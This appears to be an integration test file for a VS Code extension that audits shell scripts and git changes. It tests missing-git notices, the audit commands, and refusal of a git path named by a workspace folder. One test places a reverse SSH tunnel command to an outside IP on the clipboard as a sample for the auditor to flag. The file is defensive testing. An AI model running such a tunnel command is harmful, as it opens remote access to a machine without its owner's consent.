/** A machine on which no git is found: what needs it says so, the rest goes on, and a git that the person names is taken. */
import assert from "node:assert/strict";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ConfigurationTarget, commands, env, Selection, workspace } from "vscode";
import type { ReviewAnswer } from "../../../extension/server/protocol.ts";
import { folder } from "./command-line.ts";
import { closeAll, diagnostics, open } from "./looking.ts";
import { runMocha } from "./run-mocha.ts";
import { notice, noticesLeft } from "./workbench.ts";

const advice =
  "There is no git program on this machine's PATH, and changes are read from git. Install git, put its folder on the PATH, or name it in the editor's setting git.path.";
const needingGit = [
  "reviewChanges",
  "refreshReview",
  "nextOpenUnit",
  "nextOpenItem",
  "checkGate",
  "sendBack",
  "openChecklist",
  "signChange",
  "pushNotes",
];

export const run = (): Promise<void> =>
  runMocha(() => {
    afterEach(closeAll);

    it("shows all findings of an open file, there being nothing to compare with", async () => {
      await diagnostics((await open("old.sh")).document, 2);
    });

    for (const command of needingGit)
      it(`says of ${command} what is missing and what to do`, async () => {
        noticesLeft();
        assert.equal(await commands.executeCommand(`countersign.${command}`), undefined);
        assert.equal(await notice(/git/), advice);
      });

    it("says of what is staged that source control finds no git", async () => {
      noticesLeft();
      assert.equal(await commands.executeCommand("countersign.auditStaged"), undefined);
      assert.match(await notice(/built-in Git/), /Turn it on or install git, and try again\.$/);
    });

    it("audits a file, a selection, the clipboard and the workspace all the same", async () => {
      const editor = await open("new file.sh");
      editor.selection = new Selection(1, 0, 2, 0);
      await env.clipboard.writeText("ssh -R 9:localhost:22 agent@203.0.113.7\n");
      const counts: number[] = [];
      for (const [command, ...words] of [["auditFile"], ["auditSelection"], ["auditClipboard", "shellscript"], ["auditWorkspace"]]) {
        const answer = await commands.executeCommand<{ findings: readonly unknown[] }>(`countersign.${command}`, ...words);
        counts.push(answer.findings.length);
      }
      assert.deepEqual(counts, [1, 1, 1, 3]);
      assert.deepEqual(noticesLeft(), []);
    });

    it("takes the git that the person names, as source control does, and none that a folder names", async () => {
      const settings = workspace.getConfiguration("git");
      const git = process.env["COUNTERSIGN_TEST_GIT"] ?? "";
      assert.notEqual(git, "");
      // A folder that could name the program would have it run.
      const script = join(folder(), "git-of-this-folder");
      writeFileSync(script, `#!/bin/sh\ntouch ${JSON.stringify(join(folder(), "was-run"))}\n`, { mode: 0o755 });
      mkdirSync(join(folder(), ".vscode"));
      writeFileSync(join(folder(), ".vscode/settings.json"), JSON.stringify({ "git.path": script }));
      await settings.update("path", git, ConfigurationTarget.Global);
      const { document } = await open("old.sh");
      await diagnostics(document, 1);
      const answer = await commands.executeCommand<ReviewAnswer>("countersign.reviewChanges");
      assert.ok(answer.change.files.some(({ path }) => path === "old.sh"));
      assert.equal(existsSync(join(folder(), "was-run")), false);
      await settings.update("path", undefined, ConfigurationTarget.Global);
      await diagnostics(document, 2);
    });
  });
